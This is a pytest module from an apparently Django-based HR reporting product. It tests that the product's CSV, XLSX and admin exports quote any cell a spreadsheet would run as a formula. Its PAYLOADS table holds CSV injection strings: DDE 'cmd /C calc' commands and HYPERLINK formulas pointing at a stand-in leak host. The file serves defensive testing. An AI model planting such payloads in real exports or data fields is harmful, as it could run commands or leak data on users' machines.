"""Nothing harmful goes out: every CSV and XLSX the product writes, opened and read, holds no cell a
spreadsheet would run as a formula, whatever the records' names (OWASP's CSV injection payloads).

The exports are found from registries, so one added later is tested or fails here:
every exporter in ``reporting.exporters.EXPORTERS`` (each classed as tabular or not), the
page downloads in ``PAGE_DOWNLOADS``, the admin's export formats (``EXPORT_FORMATS``), and
every product module that writes CSV or XLSX at all (a scan of the source).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from openpyxl import load_workbook

from foundation.cells import dangerous, make_inert, safe_text
from leavers.models import Destination, ExitReason, LeavingCategory
from recruitment.models import Channel
from reporting.exporters import EXPORTERS
from reporting.figures import PaperText
from reporting.models import AgencyBudget, StrategyAction
from reporting.summary import build_committee_summary, with_paper
from tests import factories
from tests import factories_leavers as fl
from tests import factories_recruitment as fr
from workforce import services
from workforce.models import AgencyReason, Assignment, Contract, Role
from workforce.scopes import Scope

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
AS_OF = dt.date(2019, 6, 30)
# One payload for each free-text or code-name field that reaches an export; each a different
# way in (OWASP: =, +, -, @, tab, carriage return; DDE; full-width equals).
PAYLOADS = {
    "team": '=HYPERLINK("http://x.example/?leak","Team")',
    "service_area": "+1+cmd|' /C calc'!A0",
    "role": "-2+3+cmd|' /C calc'!A0",
    "category": "@SUM(1+9)*cmd|' /C calc'!A0",
    "destination": "\t=1+1 Destination",
    "reason": "\r=1+1 Reason",
    "campaign": "=2+5 Campaign",
    "channel": "＝cmd|' /C calc'!A0",
    "supplier": "-Supplier()+1",
    "title": '=HYPERLINK("http://x.example","Title")',
    "committee": "@Committee()",
    "action": "=Action()",
    "budget": "+Budget()",
    "reference": "=P1()",
    "staff": "@W1()",
}
# Exporters that write spreadsheet cells, and how to read every cell they write.
TABULAR = {"xlsx", "csv"}
# The others, and why no spreadsheet reads them.
NOT_TABULAR = {
    "pdf": "a PDF is laid out text",
    "docx": "a Word document's tables are text, never formulas",
    "json": "JSON is data for programs, not a spreadsheet",
    "html": "a web page, escaped by the templates",
}
# Every page that downloads a CSV or XLSX: the path, and the records whose names it shows.
PAGE_DOWNLOADS = {
    "/establishment/download.csv?as_of=2019-06-30": {"team", "service_area", "role", "reference"}
}
# Every product module that touches CSV or XLSX files, and what it does with them. A module
# that writes one must call foundation.cells; one that reads them is the import's.
WRITERS = {
    "reporting/exporters/spreadsheet.py",
    "reporting/exporters/csvzip.py",
    "workforce/views.py",
    "dataio/export_formats.py",
    "dataio/agency_return/writer.py",
    "planning/export.py",
    "planning/management/commands/forecast.py",
}
READERS = {
    "foundation/workbooks.py",
    "dataio/importing/reading.py",
    "dataio/importing/values.py",
    "recruitment/importing.py",
    "foundation/cells.py",
}
NOT_EXPORTS = {
    "scale/extract.py": "writes the benchmark's own import input, never a download",
    "planning/views.py": "serves the bytes planning.export writes (listed above)",
}
SIGNS = (
    "csv.writer",
    "csv.DictWriter",
    "Workbook(",
    "openpyxl",
    "text/csv",
    "spreadsheetml",
    "import_export",
)
APPS = (
    "foundation",
    "workforce",
    "access",
    "jobs",
    "notices",
    "recruitment",
    "leavers",
    "planning",
    "reporting",
    "dataio",
    "pages",
    "scale",
)


@pytest.fixture
def poisoned():
    """Records whose every name is a formula, as an extract could bring them in."""
    area = factories.service_area(PAYLOADS["service_area"])
    team = factories.team(PAYLOADS["team"], area=area)
    Role.objects.filter(code="social-worker").update(name=PAYLOADS["role"])
    LeavingCategory.objects.filter(code="resignation-new-employment").update(name=PAYLOADS["category"])
    Destination.objects.filter(code="another-la").update(name=PAYLOADS["destination"])
    ExitReason.objects.filter(code="better-pay").update(name=PAYLOADS["reason"])
    Channel.objects.filter(code="targeted-online").update(name=PAYLOADS["channel"])
    start = dt.date(2016, 1, 4)
    posts = [
        factories.post(team=team, reference=f"{PAYLOADS['reference']}{n}", active_from=start)
        for n in range(4)
    ]
    factories.assign(posts[0], worker_=factories.worker(staff_reference=PAYLOADS["staff"]), start=start)
    services.save_assignment(
        assignment=Assignment(
            worker=factories.worker(),
            post=posts[1],
            start=start,
            fte=Decimal("1"),
            contract=Contract.AGENCY,
            agency_reason=AgencyReason.VACANCY,
            agency_supplier=PAYLOADS["supplier"],
            weekly_charge=Decimal("1650"),
        )
    )
    manager = factories.user("poisoned-manager", "manager", teams=[team])
    leaver = fl.leaver(post=posts[2], leaving_date=dt.date(2019, 3, 31), start=start)
    fl.conversation(leaver, user=manager, quote="=Quote()", quote_consent=True)
    campaign = fr.campaign(title=PAYLOADS["campaign"], opens_on=dt.date(2019, 1, 7))
    fr.progress(
        fr.application(campaign, received_on=dt.date(2019, 1, 14), source=fr.channel()), to="accepted"
    )
    StrategyAction.objects.create(title=PAYLOADS["action"], owner="=Owner()", due_date=dt.date(2019, 3, 31))
    AgencyBudget.objects.create(
        period_start=dt.date(2019, 4, 1),
        period_end=dt.date(2020, 3, 31),
        amount=Decimal("1"),
        notes=PAYLOADS["budget"],
    )
    return team


def _summary(team, scope: Scope | None):
    built = build_committee_summary(
        as_of=AS_OF, comparison_dates=[dt.date(2018, 3, 31), dt.date(2019, 3, 31)], scope=scope
    )
    return with_paper(built, PaperText(title=PAYLOADS["title"], committee=PAYLOADS["committee"]))


def xlsx_cells(content: bytes) -> list[tuple[str, object, str]]:
    """Return (where, value, type) of every cell of every sheet of a workbook."""
    book = load_workbook(io.BytesIO(content))
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def csv_cells(name: str, content: bytes) -> list[tuple[str, str]]:
    text = content.decode("utf-8-sig")
    return [
        (f"{name} row {number}", cell)
        for number, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1)
        for cell in row
    ]


def zip_cells(content: bytes) -> list[tuple[str, str]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [cell for name in archive.namelist() for cell in csv_cells(name, archive.read(name))]


def assert_inert(cells: list[tuple], payloads: set[str]) -> None:
    """Assert no cell is a formula or text a spreadsheet would run, and that each payload in
    ``payloads`` reached the file (quoted), so the check did not pass for want of it."""
    for where, value, *kind in cells:
        assert not kind or kind[0] != "f", f"{where} is a formula: {value!r}"
        assert not (isinstance(value, str) and dangerous(value)), f"{where} would run: {value!r}"
    text = "\n".join(str(value) for _, value, *_ in cells)
    for field in payloads:
        assert "'" + PAYLOADS[field] in text, f"the {field} payload did not reach the file"


def test_every_exporter_is_classed_as_tabular_or_not():
    assert set(EXPORTERS) == TABULAR | set(NOT_TABULAR), "class the new exporter here and test it below"


@pytest.mark.parametrize("scoped", [False, True], ids=["whole council", "one team"])
def test_the_report_workbook_holds_no_formula_whatever_the_names(poisoned, scoped):
    scope = Scope.team(poisoned.pk, poisoned.name) if scoped else None
    _, content_type, content = EXPORTERS["xlsx"].render(_summary(poisoned, scope))
    assert content_type.endswith("spreadsheetml.sheet")
    cells = xlsx_cells(content)
    reached = {"role", "category", "destination", "reason", "title"} | ({"team"} if scoped else set())
    assert_inert(cells, reached)
    contents = {where: value for where, value, _ in cells if where.startswith("Contents!")}
    assert contents["Contents!A1"] == "'" + PAYLOADS["title"]  # the paper's title, as text
    if scoped:
        assert "'" + PAYLOADS["team"] in contents.values()  # the team-scoped report's scope label
    numbers = [value for _, value, kind in cells if kind == "n"]
    assert numbers and all(isinstance(value, int | float) for value in numbers)  # numbers stay numbers


@pytest.mark.parametrize("scoped", [False, True], ids=["whole council", "one team"])
def test_the_report_csv_zip_holds_no_formula_whatever_the_names(poisoned, scoped):
    scope = Scope.team(poisoned.pk, poisoned.name) if scoped else None
    _, _, content = EXPORTERS["csv"].render(_summary(poisoned, scope))
    cells = zip_cells(content)
    reached = {"role", "category", "destination", "reason"} | ({"team"} if scoped else set())
    assert_inert(cells, reached)


@pytest.mark.parametrize("path", sorted(PAGE_DOWNLOADS))
def test_every_page_download_holds_no_formula_whatever_the_names(poisoned, client, path):
    client.force_login(factories.user("hr-download", "hr", staff=True))
    response = client.get(path)
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert_inert(csv_cells(path, content), PAGE_DOWNLOADS[path])


def test_the_admin_export_formats_hold_no_formula(poisoned):
    from import_export import resources

    from workforce.models import Team

    class TeamResource(resources.ModelResource):
        class Meta:
            model = Team
            fields = ("name", "service_area__name", "case_holding")

    dataset = TeamResource().export()
    for export_format in settings.EXPORT_FORMATS:
        written = export_format().export_data(dataset)
        if isinstance(written, bytes) and written.startswith(b"PK"):
            cells = xlsx_cells(written)
        else:
            text = written if isinstance(written, str) else written.decode()
            delimiter = "\t" if export_format.__name__ == "TSV" else ","
            rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            cells = [
                (f"{export_format.__name__} row {n}", cell) for n, row in enumerate(rows, 1) for cell in row
            ]
        assert_inert(cells, {"team", "service_area"})


def test_every_module_that_writes_csv_or_xlsx_makes_its_cells_safe():
    """A new export written without foundation.cells fails here until it is protected and tested."""
    touching = set()
    for app in APPS:
        for path in sorted((ROOT / app).rglob("*.py")):
            if "migrations" in path.parts:
                continue
            source = path.read_text(encoding="utf-8")
            if any(sign in source for sign in SIGNS):
                touching.add(str(path.relative_to(ROOT)))
    unknown = touching - WRITERS - READERS - set(NOT_EXPORTS)
    assert unknown == set(), "a module writes or reads CSV/XLSX: protect it and list it above"
    for module in WRITERS:
        assert "foundation.cells" in (ROOT / module).read_text(encoding="utf-8"), module


# --- The helper itself -------------------------------------------------------------------------


@pytest.mark.parametrize("payload", list(PAYLOADS.values()) + ["@", "-x", " =1+1", "\n=1+1", "\u00a0+1+1"])
def test_text_a_spreadsheet_would_run_is_quoted(payload):
    if len(payload.strip()) < 2:
        assert safe_text(payload) == payload
    else:
        assert safe_text(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["-3.5", "+1", "-1,650.00", "12%", "-", "Team", "", 3, -3.5, Decimal("-1.25")]
)
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_text(value) == value


def test_a_finished_workbook_is_made_inert():
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["=1+1", "-2+3", -2, 3.5, "plain"])
    make_inert(book)
    saved = io.BytesIO()
    book.save(saved)
    assert [(value, kind) for _, value, kind in xlsx_cells(saved.getvalue())] == [
        ("'=1+1", "s"),
        ("'-2+3", "s"),
        (-2, "n"),
        (3.5, "n"),
        ("plain", "s"),
    ]
